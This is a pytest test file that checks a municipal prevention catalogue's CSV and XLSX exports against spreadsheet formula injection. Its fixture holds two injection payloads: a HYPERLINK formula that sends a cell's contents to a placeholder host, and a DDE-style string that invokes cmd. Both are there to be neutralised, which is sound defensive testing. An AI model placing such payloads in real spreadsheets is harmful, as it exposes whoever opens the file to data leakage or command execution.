"""The catalogue exports are data, never formulas: formula-like values are text, all else unchanged.

A value a spreadsheet would read as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return) is a string cell with a quote prefix in the XLSX (no ``<f>`` element in
the sheet XML) and starts with ``'`` in the CSV. The files are read back as a reader would.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from forebygging.cli.trace_cli import trace_of
from forebygging.core import load
from forebygging.outputs.exports import (
    CSV_DELIMITER,
    FORMULA_STARTS,
    formula_like,
    inert_csv_value,
    measure_table,
    write_csv,
    write_exports,
    write_xlsx,
)
from forebygging.wording import lookup

from .conftest import ROOT

KOMMUNE = "sor-aurdal"
HOSTILE = {
    "Svangerskapsomsorg": '=HYPERLINK("http://example.invalid/?"&A1,"Klikk")',
    "Foreldreveiledning": "+47 12345678",
    "Helsestasjonsprogram 0-5 år": "-Helsestasjon",
}
"""Measure names in the data -> formula-like names put in their place."""
AT_SIGN = "@SUM(1+1)*cmd|' /C calc'!A0"


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=CSV_DELIMITER))


def _sheet_xml(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")}


def _no_formula_elements(path: Path) -> None:
    sheets = _sheet_xml(path)
    assert sheets
    for name, xml in sheets.items():
        assert not re.search(rb"<(?:\w+:)?f[ >/]", xml), f"formula element in {name}"


@pytest.fixture
def hostile_exports(data_copy: Path, tmp_path: Path):
    """The real catalogue with three measure names and one target group made formula-like, exported."""
    path = data_copy / KOMMUNE / "measures.yaml"
    text = path.read_text(encoding="utf-8")
    for old, new in HOSTILE.items():
        assert f"  name: {old}\n" in text
        text = text.replace(f"  name: {old}\n", f"  name: '{new}'\n", 1)
    old_target = "  target_group: Det gravide paret\n"
    assert old_target in text
    text = text.replace(old_target, f'  target_group: "{AT_SIGN}"\n', 1)
    path.write_text(text, encoding="utf-8")
    data = load(data_copy, KOMMUNE)
    trace = trace_of(data, ROOT / "handbook")
    out = tmp_path / "out"
    out.mkdir()
    csv_path, xlsx_path = write_exports(out, data, trace, "nb")
    return data, measure_table(data, trace, "nb"), csv_path, xlsx_path


def test_xlsx_has_formula_like_values_as_text_cells(hostile_exports) -> None:
    _, (headers, rows), _, xlsx = hostile_exports
    _no_formula_elements(xlsx)
    sheet = load_workbook(xlsx)[lookup("nb", "export.sheet")]  # the catalogue, beside the editing sheets
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[0]] == headers
    hostile = 0
    for expected, line in zip(rows, cells[1:], strict=True):
        for value, cell in zip(expected, line, strict=True):
            # Every value, formula-like or not, reads back exactly as the catalogue has it.
            assert (cell.value if cell.value is not None else "") == value
            if formula_like(value):
                hostile += 1
                assert cell.data_type == "s"
                assert cell.quotePrefix is True
            elif value:
                assert cell.quotePrefix is False
    assert hostile == len(HOSTILE) + 1  # three names and the target group


def test_csv_prefixes_formula_like_values_and_leaves_the_rest(hostile_exports) -> None:
    _, (headers, rows), csv_path, _ = hostile_exports
    read = _read_csv(csv_path)
    assert read[0] == headers
    names = {row[1] for row in read[1:]}
    for new in HOSTILE.values():
        assert "'" + new in names
        assert new not in names
    assert any(row[3] == "'" + AT_SIGN for row in read[1:])
    changed = 0
    for expected, line in zip(rows, read[1:], strict=True):
        for value, written in zip(expected, line, strict=True):
            if formula_like(value):
                changed += 1
                assert written == "'" + value
            else:
                assert written == value  # e.g. an age range '0–5' and every other value: unchanged
    assert changed == len(HOSTILE) + 1


def test_every_formula_start_is_made_inert_in_both_files(tmp_path: Path) -> None:
    """Tab and carriage return cannot come from the data (the loader trims values); the writers guard anyway."""
    headers = ["a", "b"]
    rows = [[f"{start}1+1", "0-6"] for start in FORMULA_STARTS] + [["1-2", "x=1"]]
    xlsx = write_xlsx(tmp_path / "t.xlsx", headers, rows, "Tiltak")
    _no_formula_elements(xlsx)
    sheet = load_workbook(xlsx)["Tiltak"]
    for start, line in zip(FORMULA_STARTS, list(sheet.iter_rows())[1:], strict=False):
        assert line[0].data_type == "s" and line[0].quotePrefix is True
        # XML turns a carriage return into a line feed when it is read; the cell stays text either way.
        assert line[0].value == (f"{start}1+1" if start != "\r" else "\n1+1")
        assert line[1].value == "0-6" and line[1].quotePrefix is False
    last = list(sheet.iter_rows())[-1]
    assert [c.value for c in last] == ["1-2", "x=1"]
    read = _read_csv(write_csv(tmp_path / "t.csv", headers, rows))
    assert [r[0] for r in read[1:-1]] == [f"'{start}1+1" for start in FORMULA_STARTS]
    assert all(r[1] == "0-6" for r in read[1:-1])
    assert read[-1] == ["1-2", "x=1"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("0-6", "0-6"),
        ("0–6", "0–6"),
        ("Tiltak = bra", "Tiltak = bra"),
        ("", ""),
    ],
)
def test_inert_csv_value(value: str, written: str) -> None:
    assert inert_csv_value(value) == written


def test_hostile_exports_are_byte_reproducible(hostile_exports, tmp_path: Path) -> None:
    data, _, csv_path, xlsx_path = hostile_exports
    again = tmp_path / "again"
    again.mkdir()
    csv2, xlsx2 = write_exports(again, data, trace_of(data, ROOT / "handbook"), "nb")
    assert csv2.read_bytes() == csv_path.read_bytes()
    assert xlsx2.read_bytes() == xlsx_path.read_bytes()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("slug", "lang", "words"),
    [("sor-aurdal", "nb", "skrives som tekst"), ("vest-telemark", "nn", "blir skrivne som tekst")],
)
def test_catalogue_page_says_formula_like_values_are_text(plan_site, slug: str, lang: str, words: str) -> None:
    from bs4 import BeautifulSoup

    from forebygging.wording import lookup

    page = BeautifulSoup((plan_site(slug) / "tiltak.html").read_text(encoding="utf-8"), "html.parser")
    (downloads,) = page.select("p.catalogue-downloads")
    note = lookup(lang, "export.note").strip()
    assert words in note and "=, +, -, @" in note
    assert downloads.get_text().endswith(note)  # after the links ('@' is written as &#64; in the HTML)


def test_the_note_is_in_nynorsk_too() -> None:
    from forebygging.wording import lookup

    note = lookup("nn", "export.note")
    assert note != lookup("nb", "export.note")
    assert "blir skrivne som tekst" in note and "=, +, -, @" in note
